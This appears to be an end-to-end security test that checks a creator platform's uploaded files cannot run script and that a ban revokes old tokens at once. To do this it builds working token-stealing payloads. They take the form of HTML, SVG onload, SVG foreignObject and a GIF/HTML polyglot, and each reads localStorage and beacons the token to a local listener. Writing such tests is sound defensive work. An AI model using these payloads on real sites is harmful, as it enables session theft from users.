/**
 * Hardening, in a real browser: a creator's uploaded HTML page or script-bearing SVG, opened by a
 * logged-in user, runs nothing and cannot read the session token; and a forced-logout ban (type 2)
 * makes the server refuse the banned user's old token at once.
 * This file starts its own product on a scratch PostgreSQL database, so the operator CLI can ban
 * while the server runs (the embedded database admits one process only).
 */
import assert from 'node:assert/strict';
import { execFile } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { type Answer, signedCall, tokenOf } from '../support/api';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import path from 'node:path';
import { after, before, describe, it } from 'node:test';
import { promisify } from 'node:util';
import type { Page } from 'playwright-core';
import type { TosToken } from 'shared-sdk/contract';
import { createStorageClient } from '../../shared-sdk/src/upload/storage-client';
import { ACCOUNTS, signIn, useBrowser } from '../support/browser';
import { ROOT, type RunningProduct, startProduct } from '../support/server';

const run = promisify(execFile);
const PG = process.env.TEST_DATABASE_URL ?? 'postgres://postgres@127.0.0.1:5432/postgres';
const database = `creator_e2e_hardening_${randomBytes(4).toString('hex')}`;
const databaseUrl = (() => {
  const url = new URL(PG);
  url.pathname = `/${database}`;
  return url.toString();
})();

async function psql(sql: string): Promise<void> {
  await run('psql', [PG, '-v', 'ON_ERROR_STOP=1', '-qc', sql]);
}

async function admin(...args: string[]): Promise<string> {
  const { stdout } = await run(process.execPath, ['--import', 'tsx', 'src/cli/admin.ts', ...args], {
    cwd: path.join(ROOT, 'api-server'),
    env: { ...process.env, DATABASE_URL: databaseUrl },
  });
  return stdout;
}

/** A listener the payloads try to send the token to; it records every hit. */
async function startListener(): Promise<{ url: string; hits: string[]; close: () => Promise<void> }> {
  const hits: string[] = [];
  const server = http.createServer((req, res) => {
    hits.push(req.url ?? '');
    res.setHeader('access-control-allow-origin', '*');
    res.end('ok');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return { url: `http://127.0.0.1:${port}`, hits, close: () => new Promise((resolve) => server.close(() => resolve())) };
}

/** What each payload tries: mark the page, then read the token from local storage and send it out. */
const steal = (listener: string) =>
  `document.title='pwned';window.top.pwned=1;` +
  `var t='';try{t=localStorage.getItem('userInfo')}catch(e){t='blocked'}` +
  `fetch('${listener}/steal?t='+encodeURIComponent(t)).catch(function(){});new Image().src='${listener}/img?t='+encodeURIComponent(t);`;

/** A signed GET with a given token (the one a logged-out session had, say). */
function signedGet<T = unknown>(baseUrl: string, path: string, token: string): Promise<Answer<T>> {
  return signedCall<T>(baseUrl, token, 'GET', path, {});
}

/**
 * A PutObject with the user's upload credentials, signed by ali-oss with the browser's storage client
 * (shared-sdk, OSS signature V4): what an attacker holding their own credentials sends, whatever
 * Content-Type they like.
 */
async function putObject(baseUrl: string, credentials: TosToken, name: string, body: Buffer, contentType: string): Promise<string> {
  const ext = name.split('.').pop() ?? 'bin';
  const key = `image/20261122/${credentials.keyScope}/${randomBytes(16).toString('hex')}.${ext}`;
  const same = async () => ({ accessKeyId: credentials.accessKeyId, accessKeySecret: credentials.secretAccessKey, stsToken: credentials.sessionToken });
  const client = await createStorageClient(credentials, baseUrl, same);
  const answer = await client.put(key, body, { headers: { 'Content-Type': contentType } });
  assert.equal(answer.res.status, 200, name);
  return `${baseUrl}/oss/${credentials.bucket}/${key}`;
}

describe('hardening', () => {
  const harness = useBrowser();
  let product: RunningProduct;
  let listener: Awaited<ReturnType<typeof startListener>>;

  before(async () => {
    await psql(`create database ${database}`);
    product = await startProduct({ DATABASE_URL: databaseUrl });
    listener = await startListener();
  });
  after(async () => {
    await product?.stop();
    await listener?.close();
    await psql(`drop database if exists ${database} with (force)`);
  });

  /** A logged-in page in its own browser context (tabs opened in that context share its session), closed after the test. */
  async function loggedIn(phone: string): Promise<Page> {
    const page = await (await harness.newContext()).newPage();
    // The first page of a freshly started product can take long on a busy machine.
    await page.goto(`${product.baseUrl}/login`);
    await page.getByPlaceholder('手机号').waitFor({ timeout: 120_000 });
    await signIn(page, product.baseUrl, phone);
    return page;
  }

  it('an uploaded HTML page, script-bearing SVGs and a GIF/HTML polyglot run nothing and cannot read the token', async () => {
    const page = await loggedIn(ACCOUNTS.verified);
    const title = await page.title();
    const userInfo = await page.evaluate(() => localStorage.getItem('userInfo') ?? '');
    const token = (JSON.parse(userInfo || '{}') as { token?: string }).token ?? '';
    assert.ok(token.length > 20);

    const script = steal(listener.url);
    const files = [
      { name: 'page.png', type: 'text/html', body: Buffer.from(`<!doctype html><html><body><script>${script}</script></body></html>`) },
      {
        name: 'script.svg',
        type: 'image/svg+xml',
        body: Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="${script.replace(/"/g, '&quot;')}"><script>${script}</script></svg>`),
      },
      {
        name: 'foreign.svg',
        type: 'image/svg+xml',
        body: Buffer.from(
          `<svg xmlns="http://www.w3.org/2000/svg"><foreignObject width="9" height="9"><h:script xmlns:h="http://www.w3.org/1999/xhtml">${script}</h:script></foreignObject></svg>`,
        ),
      },
      {
        name: 'poly.gif',
        type: 'text/html',
        body: Buffer.concat([Buffer.from('474946383961010001000000002c', 'hex'), Buffer.from(`<html><script>${script}</script></html>`)]),
      },
    ];
    // The attacker uploads with their own credentials and any Content-Type.
    const credentials = await signedGet<TosToken>(product.baseUrl, '/api/upload/tos/token', token);
    assert.equal(credentials.code, 0, credentials.msg);
    const stored: string[] = [];
    for (const file of files) stored.push(await putObject(product.baseUrl, credentials.data, file.name, file.body, file.type));

    const context = page.context();
    for (const url of stored) {
      const answer = await fetch(url);
      assert.equal(answer.headers.get('x-content-type-options'), 'nosniff', url);
      assert.match(answer.headers.get('content-security-policy') ?? '', /sandbox/, url);
      assert.doesNotMatch(answer.headers.get('content-type') ?? '', /html|svg|xml/, url);

      // A logged-in user opens the link in a new tab of the same session.
      const tab = await context.newPage();
      const download = tab.waitForEvent('download', { timeout: 5_000 }).catch(() => null);
      await tab.goto(url).catch(() => undefined);
      const downloaded = await download;
      if (!downloaded) {
        // Shown inline (the polyglot, as the image it claims to be): its document cannot reach the
        // app's storage even from the browser's own script.
        assert.equal(answer.headers.get('content-type'), 'image/gif', url);
        assert.equal(
          await tab.evaluate(() => {
            try {
              return localStorage.getItem('userInfo');
            } catch {
              return 'blocked';
            }
          }),
          'blocked',
        );
      }
      await tab.waitForTimeout(1_000);
      assert.notEqual(await tab.title(), 'pwned', url);
      await tab.close();
    }
    await page.waitForTimeout(1_000);
    assert.deepEqual(listener.hits, [], 'nothing reached the listener');
    assert.equal(await page.evaluate(() => (window as unknown as { pwned?: number }).pwned), undefined);
    assert.equal(await page.title(), title);
  });

  it('a type 2 ban refuses the old token of a logged-in user at once; the shell goes back to login', async () => {
    const page = await loggedIn(ACCOUNTS.enterprise);
    const token = await tokenOf(page);
    assert.equal((await signedGet(product.baseUrl, '/api/user/mpBaseUserinfo', token)).code, 0, 'the token works before the ban');
    assert.match(await admin('ban', '--phone', ACCOUNTS.enterprise, '--type', '2', '--reason', '端到端封禁测试'), /logged out everywhere/);
    for (const path of ['/api/user/mpBaseUserinfo', '/api/upload/tos/token', '/api/user/getToolList']) {
      assert.deepEqual(await signedGet(product.baseUrl, path, token), { code: -1, msg: '账号已被封禁，已退出登录（端到端封禁测试）', data: null }, path);
    }

    const answers: Array<{ url: string; code: number; msg: string }> = [];
    page.on('response', async (response) => {
      const url = new URL(response.url());
      if (!url.pathname.startsWith('/api/') && !url.pathname.startsWith('/service/')) return;
      const payload = (await response.json().catch(() => null)) as { code?: number; msg?: string } | null;
      if (payload && typeof payload.code === 'number') answers.push({ url: url.pathname, code: payload.code, msg: payload.msg ?? '' });
    });
    await page.goto(`${product.baseUrl}/material/0`);
    await page.waitForURL(/\/login/, { timeout: 30_000 });
    // The page's own calls with the old token: refused, except the ban info, which tells the shell why.
    const refused = answers.filter((a) => a.code === -1);
    assert.ok(
      refused.every((a) => a.msg === '账号已被封禁，已退出登录（端到端封禁测试）'),
      JSON.stringify(refused),
    );
    const served = answers.filter((a) => a.code === 0 && !a.url.startsWith('/api/runtime/') && a.url !== '/service/userban/getUserBanInfo');
    assert.deepEqual(served, []);
  });
});
